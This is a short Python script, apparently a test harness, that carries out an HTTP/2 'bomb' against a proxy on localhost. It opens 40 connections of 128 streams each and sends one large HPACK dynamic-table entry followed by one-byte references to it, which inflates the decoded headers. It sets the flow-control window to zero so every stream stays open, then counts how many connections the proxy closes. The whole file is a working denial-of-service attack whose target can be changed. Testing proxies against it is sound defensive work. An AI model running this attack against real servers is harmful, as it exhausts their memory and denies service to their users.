"""The HTTP/2 Bomb: `h2_bomb.py PORT SECONDS HOST FIELDS NAME BYTES`.

40 connections from 127.0.0.2 with 128 streams each. Each request has FIELDS fields of one byte on the wire: references to
one entry of the dynamic table, with the name NAME and a value of BYTES. The client's window is zero, so that the proxy
cannot send a response's body, and all streams stay open. Prints how many bytes it sent.
"""

import asyncio
import sys

from peer import PREFACE, frame, initial_window, string

port, seconds = int(sys.argv[1]), float(sys.argv[2])
host, fields, name, size = sys.argv[3].encode(), int(sys.argv[4]), sys.argv[5].encode(), int(sys.argv[6])
CONNECTIONS, STREAMS = 40, 128
sent = refused = 0


def requests() -> bytes:
    # GET, http, /, and the host as a literal without indexing.
    head = b"\x82\x86\x84\x01" + string(host)
    entry = b"\x40" + string(name) + string(b"v" * size)
    out = PREFACE + initial_window(0)
    for number in range(STREAMS):
        block = head + (entry + b"\xbe" * (fields - 1) if number == 0 else b"\xbe" * fields)
        out += frame(1, 5, 2 * number + 1, block)
    return out


async def connection():
    global sent, refused
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=("127.0.0.2", 0))
        data = requests()
        writer.write(data + frame(4, 1, 0, b""))
        sent += len(data)
        while await reader.read(65536):
            pass
        refused += 1
    except OSError:
        refused += 1


async def main():
    tasks = [asyncio.ensure_future(connection()) for _ in range(CONNECTIONS)]
    await asyncio.sleep(seconds)
    closed = refused
    for task in tasks:
        task.cancel()
    print(f"{sent} bytes sent, {closed} of {CONNECTIONS} connections closed by the proxy")


asyncio.run(main())
